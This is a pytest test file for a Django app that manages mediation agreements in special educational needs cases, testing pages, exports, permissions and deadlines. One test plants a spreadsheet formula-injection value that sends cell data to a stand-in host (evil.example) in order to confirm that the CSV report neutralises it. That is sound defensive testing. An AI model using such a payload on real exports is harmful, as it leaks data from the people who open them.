"""The agreement pages as people use them: the mediator writes and shares the agreement, the
family reports an action not done, the document and the report never carry the mediator's notes,
and forged or foreign ids are refused without a save."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from docx import Document

from redress.agreements import services
from redress.agreements.models import AgreedAction, MediationAgreement
from redress.agreements.tests.helpers import World, build_world
from redress.casework.deadlines import deadlines_recompute
from redress.casework.tests.factories import ChildFactory
from redress.mediation.models import MediationCase

pytestmark = pytest.mark.django_db

AGREED = date(2026, 11, 18)
TODAY = date(2026, 12, 1)


@pytest.fixture
def world() -> Any:
    with time_machine.travel(TODAY, tick=False):
        yield build_world(held_on=AGREED)


def _client(world: World, who: str) -> Client:
    client = Client()
    client.force_login(world.users[who])
    return client


def _date(prefix: str, day: date) -> dict[str, str]:
    return {f"{prefix}_day": str(day.day), f"{prefix}_month": str(day.month),
            f"{prefix}_year": str(day.year)}  # fmt: skip


def _in_force(world: World) -> tuple[MediationAgreement, AgreedAction]:
    mediator = world.users["mediator"]
    agreement = services.agreement_create(
        actor=mediator, case=world.case, made_on=AGREED, la_party=True, health_party=True,
        future_disagreements="Transport to school next year",
    )  # fmt: skip
    action = services.action_add(
        actor=mediator, agreement=agreement, expected_version=agreement.version,
        what="Name Riverside School in section I", who="Northwick SEND team",
        measure="The amended plan names the school", kind="amend_school", timing="statutory",
        agreed_due=None, plan_section="I",
    )  # fmt: skip
    for party in agreement.parties():
        agreement.refresh_from_db()
        services.acceptance_record(
            actor=mediator, agreement=agreement, expected_version=agreement.version,
            party=party, accepted_by_name="A person", accepted_on=AGREED,
        )  # fmt: skip
    return agreement, action


def test_mediator_writes_an_agreement_through_the_pages(world: World) -> None:
    client = _client(world, "mediator")
    with time_machine.travel(TODAY, tick=False):
        url = reverse("agreements:case", args=[world.case.pk])
        assert client.get(url).status_code == 200
        response = client.post(
            url, {**_date("made_on", AGREED), "la_party": "on", "health_party": "on",
                  "future_disagreements": "The LA refused transport"},
        )  # fmt: skip
        # Warned, nothing saved, the text kept.
        assert response.status_code == 200
        assert "refused" in response.content.decode()
        assert "Keep my wording as it is" in response.content.decode()
        assert not MediationAgreement.objects.exists()
        response = client.post(
            url, {**_date("made_on", AGREED), "la_party": "on", "health_party": "on",
                  "future_disagreements": "The LA refused transport",
                  "keep_flagged_words": "on"},
        )  # fmt: skip
        agreement = MediationAgreement.objects.get()
        assert response.status_code == 302
        new_action = reverse("agreements:action-new", args=[agreement.pk])
        response = client.post(new_action, {"version": agreement.version, "what": "Assess"})
        page = response.content.decode()
        assert response.status_code == 200
        assert "Say who will do it" in page and "Say how the parties will know" in page
        assert "Assess" in page  # what was typed is kept
        response = client.post(
            new_action,
            {"version": agreement.version, "what": "Carry out an EHC needs assessment",
             "who": "Northwick SEND team", "measure": "The family receive the notice",
             "kind": "assess", "timing": "agreed", **_date("agreed_due", date(2027, 2, 26)),
             "plan_section": "none"},
        )  # fmt: skip
        assert response.status_code == 302
        detail = client.get(reverse("agreements:detail", args=[agreement.pk])).content.decode()
        assert "Carry out an EHC needs assessment" in detail
        assert "Draft" in detail


def test_document_is_for_the_parties_and_never_holds_the_notes(world: World) -> None:
    with time_machine.travel(TODAY, tick=False):
        agreement, _ = _in_force(world)
        url = reverse("agreements:document", args=[agreement.pk])
        response = _client(world, "parent").get(url)
        assert response.status_code == 200
        text = "\n".join(p.text for p in Document(io.BytesIO(response.content)).paragraphs)
        tables = Document(io.BytesIO(response.content)).tables
        cells = " ".join(c.text for t in tables for r in t.rows for c in r.cells)
        assert "Name Riverside School in section I" in cells
        assert "Transport to school next year" in text
        assert "PRIVATE-NOTE" not in text + cells
        for who in ("other_mediator", "other_caseworker", "stranger_supporter", "administrator"):
            assert _client(world, who).get(url).status_code == 403, who


def test_family_reports_an_action_not_done(world: World) -> None:
    with time_machine.travel(TODAY, tick=False):
        agreement, action = _in_force(world)
        client = _client(world, "parent")
        url = reverse("agreements:action-not-done", args=[agreement.pk, action.pk])
        assert client.get(url).status_code == 200
        assert client.post(url, {"text": ""}).status_code == 200
        response = client.post(url, {"text": "The plan still names the old school."})
        assert response.status_code == 302
        assert action.reports.count() == 1
        # The caseworker may not report for the family.
        assert _client(world, "caseworker").post(url, {"text": "x"}).status_code == 403


def test_an_action_of_another_agreement_is_not_found(world: World) -> None:
    with time_machine.travel(TODAY, tick=False):
        agreement, _ = _in_force(world)
        other_child = ChildFactory(local_authority=world.la)
        other_case = MediationCase.objects.create(
            child=other_child, provider=world.provider, decision="plan_contents",
            decision_notice_date=date(2026, 9, 1),
        )  # fmt: skip
        other = services.agreement_create(
            actor=world.users["mediator"], case=other_case, made_on=AGREED, la_party=True,
            health_party=False,
        )  # fmt: skip
        foreign = services.action_add(
            actor=world.users["mediator"], agreement=other, expected_version=other.version,
            what="x", who="y", measure="z", kind="other", timing="statutory", agreed_due=None,
            plan_section="none",
        )  # fmt: skip
        url = reverse("agreements:action-done", args=[agreement.pk, foreign.pk])
        response = _client(world, "caseworker").post(url, _date("done_on", TODAY))
        assert response.status_code == 404
        foreign.refresh_from_db()
        assert foreign.done_on is None


def test_pages_render_for_the_provider(world: World) -> None:
    with time_machine.travel(TODAY, tick=False):
        agreement, action = _in_force(world)
        client = _client(world, "case_manager")
        for url in (
            reverse("agreements:list"),
            reverse("agreements:overdue"),
            reverse("agreements:dashboard"),
            reverse("agreements:report"),
            reverse("agreements:expenses"),
            reverse("agreements:case-expenses", args=[world.case.pk]),
            reverse("agreements:detail", args=[agreement.pk]),
            reverse("agreements:acceptance-new", args=[agreement.pk]),
            reverse("agreements:action-done", args=[agreement.pk, action.pk]),
        ):
            assert client.get(url).status_code == 200, url
        # 2 weeks from 18 Nov 2026 = 2 Dec 2026: due, not overdue, on 1 Dec.
        detail = client.get(reverse("agreements:detail", args=[agreement.pk])).content.decode()
        assert "2 December 2026" in detail
        assert _client(world, "caseworker").get(reverse("agreements:dashboard")).status_code == 403


def test_report_csv_counts_and_leaves_out_notes(world: World) -> None:
    with time_machine.travel(TODAY, tick=False):
        _in_force(world)
        response = _client(world, "case_manager").get(
            reverse("agreements:report"),
            {**_date("start", date(2026, 11, 1)), **_date("end", TODAY), "format": "csv"},
        )
    body = response.content.decode()
    assert response["Content-Type"].startswith("text/csv")
    assert "mediations held,1" in body
    assert "agreements reached,1" in body
    assert "PRIVATE-NOTE" not in body and "Robin" not in body


def test_no_agreement_page_shows_certificate_and_appeal_deadline(world: World) -> None:
    world.case.outcome = "no_agreement"
    world.case.concluded_on = AGREED
    world.case.save()
    with time_machine.travel(TODAY, tick=False):
        deadlines_recompute(child=world.case.child)
        response = _client(world, "mediator").get(reverse("agreements:case", args=[world.case.pk]))
    page = response.content.decode()
    assert response.status_code == 200
    assert "ended without agreement" in page
    # 3 working days from Wed 18 Nov 2026 (mediation.certificate_after).
    assert "To be issued by 23 November 2026" in page
    assert "The family&#x27;s appeal deadline" in page or "The family's appeal deadline" in page


def test_family_page_links_to_the_agreement_for_the_family_and_supporter(world: World) -> None:
    with time_machine.travel(TODAY, tick=False):
        agreement, _ = _in_force(world)
        url = reverse("family:case", args=[world.case.child.pk])
        link = reverse("agreements:detail", args=[agreement.pk])
        assert link in _client(world, "parent").get(url).content.decode()
        assert link in _client(world, "supporter").get(url).content.decode()


def test_live_appeal_shows_the_steps_to_tell_the_tribunal(world: World) -> None:
    from redress.appeals.models import Appeal

    with time_machine.travel(TODAY, tick=False):
        agreement, _ = _in_force(world)
        url = reverse("agreements:detail", args=[agreement.pk])
        client = _client(world, "mediator")
        assert "tell the Tribunal" not in client.get(url).content.decode()
        Appeal.objects.create(
            child=world.case.child, decision="plan_contents",
            decision_notice_date=date(2026, 9, 1), lodged_on=date(2026, 10, 20),
        )  # fmt: skip
        page = client.get(url).content.decode()
        document = _client(world, "parent").get(reverse("agreements:document", args=[agreement.pk]))
    assert "An appeal is under way: tell the Tribunal" in page
    assert "SEND46" in page
    text = "\n".join(p.text for p in Document(io.BytesIO(document.content)).paragraphs)
    assert "SEND46" in text and "withdraw" in text


def test_health_only_agreement_tells_the_commissioner_to_notify_the_la(world: World) -> None:
    mediator = world.users["mediator"]
    with time_machine.travel(TODAY, tick=False):
        agreement = services.agreement_create(
            actor=mediator, case=world.case, made_on=AGREED, la_party=False, health_party=True
        )
        services.action_add(
            actor=mediator, agreement=agreement, expected_version=agreement.version,
            what="Refer to the wheelchair service", who="Northwick ICB", measure="Referral sent",
            kind="other", timing="statutory", agreed_due=None, plan_section="G",
        )  # fmt: skip
        for party in agreement.parties():
            agreement.refresh_from_db()
            services.acceptance_record(
                actor=mediator, agreement=agreement, expected_version=agreement.version,
                party=party, accepted_by_name="Someone", accepted_on=AGREED,
            )  # fmt: skip
        page = _client(world, "health").get(reverse("agreements:detail", args=[agreement.pk]))
    # 1 week from Wed 18 Nov 2026 (reg 42(4)); the action itself 2 weeks (reg 42(3)).
    assert "must tell it about the agreement by 25 November 2026" in page.content.decode()
    assert "2 December 2026" in page.content.decode()


def test_an_action_links_to_the_plan_section_it_changes(world: World) -> None:
    from redress.plans.models import Plan

    with time_machine.travel(TODAY, tick=False):
        agreement, _ = _in_force(world)
        plan = Plan.objects.create(child=world.case.child)
        url = reverse("agreements:detail", args=[agreement.pk])
        caseworker_page = _client(world, "caseworker").get(url).content.decode()
        mediator_page = _client(world, "mediator").get(url).content.decode()
    link = f"{reverse('plans:detail', args=[plan.pk])}#section-I"
    assert link in caseworker_page
    # The provider may not open the child's record, so gets no link to the plan.
    assert link not in mediator_page and "Section I" in mediator_page


def test_removing_an_action_with_a_forged_version_is_not_a_server_error(world: World) -> None:
    with time_machine.travel(TODAY, tick=False):
        mediator = world.users["mediator"]
        agreement = services.agreement_create(
            actor=mediator, case=world.case, made_on=AGREED, la_party=True, health_party=True
        )
        action = services.action_add(
            actor=mediator, agreement=agreement, expected_version=agreement.version,
            what="Name Riverside School in section I", who="Northwick SEND team",
            measure="The amended plan names the school", kind="amend_school", timing="statutory",
            agreed_due=None, plan_section="I",
        )  # fmt: skip
        url = reverse("agreements:action-remove", args=[agreement.pk, action.pk])
        response = _client(world, "mediator").post(url, {"version": "²"})
    assert response.status_code == 302


def test_a_report_sent_twice_alerts_once(world: World) -> None:
    from redress.family.models import FamilyRequest
    from redress.notifications.models import Message

    with time_machine.travel(TODAY, tick=False):
        agreement, action = _in_force(world)
        client = _client(world, "parent")
        url = reverse("agreements:action-not-done", args=[agreement.pk, action.pk])
        data = {"text": "The plan still names the old school."}
        assert client.post(url, data).status_code == 302
        again = client.post(url, data)
        assert again.status_code == 200
        assert "You have already sent this report today." in again.content.decode()
        messages_sent = Message.objects.count()
        assert client.post(url, {"text": "And the transport has not started."}).status_code == 302
    assert action.reports.count() == 2
    assert FamilyRequest.objects.filter(child=agreement.case.child).count() == 2
    assert Message.objects.count() > messages_sent


def test_report_csv_writes_a_formula_in_a_name_as_text(world: World) -> None:
    la = world.case.child.local_authority
    la.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    la.save()
    with time_machine.travel(TODAY, tick=False):
        _in_force(world)
        response = _client(world, "case_manager").get(
            reverse("agreements:report"),
            {**_date("start", date(2026, 11, 1)), **_date("end", TODAY), "format": "csv"},
        )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert ["'" + la.name] == [cell for row in rows for cell in row if "HYPERLINK" in cell]


def test_removing_an_action_without_a_version_is_refused(world: World) -> None:
    with time_machine.travel(TODAY, tick=False):
        mediator = world.users["mediator"]
        agreement = services.agreement_create(
            actor=mediator, case=world.case, made_on=AGREED, la_party=True, health_party=True
        )
        action = services.action_add(
            actor=mediator, agreement=agreement, expected_version=agreement.version,
            what="Name Riverside School in section I", who="Northwick SEND team",
            measure="The amended plan names the school", kind="amend_school", timing="statutory",
            agreed_due=None, plan_section="I",
        )  # fmt: skip
        url = reverse("agreements:action-remove", args=[agreement.pk, action.pk])
        client = _client(world, "mediator")
        response = client.post(url, {}, follow=True)
        assert "Someone else changed this case" in response.content.decode()
        assert AgreedAction.objects.filter(pk=action.pk).exists()
        agreement.refresh_from_db()
        client.post(url, {"version": agreement.version})
        assert not AgreedAction.objects.filter(pk=action.pk).exists()


def test_the_report_marks_appeals_and_missing_authority_in_a_fixed_number_of_queries(
    world: World,
) -> None:
    from datetime import time

    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from redress.agreements import selectors
    from redress.appeals.models import Appeal
    from redress.mediation.models import MediationAttendee, MediationMeeting

    user = world.users["case_manager"]
    period = {"start": date(2026, 11, 1), "end": TODAY}
    officer = MediationAttendee.objects.create(
        case=world.case, role="la_officer", name="Officer Grey", party="local_authority",
        proposed_by="local_authority", proposed_on=date(2026, 11, 1),
    )  # fmt: skip
    Appeal.objects.create(
        child=world.case.child, decision="plan_contents",
        decision_notice_date=date(2026, 9, 1), lodged_on=AGREED,
    )  # fmt: skip

    def flags() -> tuple[bool, bool]:
        [row] = selectors.provider_report(user, **period).rows
        return row.followed_by_appeal, row.without_authority

    assert flags() == (True, True)
    # Confirmed only after the meeting: still held without confirmed authority.
    officer.authority_confirmation = "delegated"
    officer.authority_confirmed_on = date(2026, 11, 19)
    officer.save()
    assert flags() == (True, True)
    officer.authority_confirmed_on = date(2026, 11, 17)
    officer.save()
    Appeal.objects.update(lodged_on=date(2026, 11, 17))  # lodged before the mediation
    assert flags() == (False, False)

    def queries(more: int) -> int:
        for _ in range(more):
            case = MediationCase.objects.create(
                child=ChildFactory(local_authority=world.la), provider=world.provider,
                decision="plan_contents", decision_notice_date=date(2026, 9, 1),
            )  # fmt: skip
            MediationMeeting.objects.create(
                case=case, meeting_date=AGREED, start_time=time(10), status="held",
                scheduled_on=date(2026, 10, 1), held_on=AGREED,
            )  # fmt: skip
        with CaptureQueriesContext(connection) as captured:
            report = selectors.provider_report(user, **period)
            selectors.provider_report_csv(report)
        return len(captured)

    assert queries(1) == queries(4)
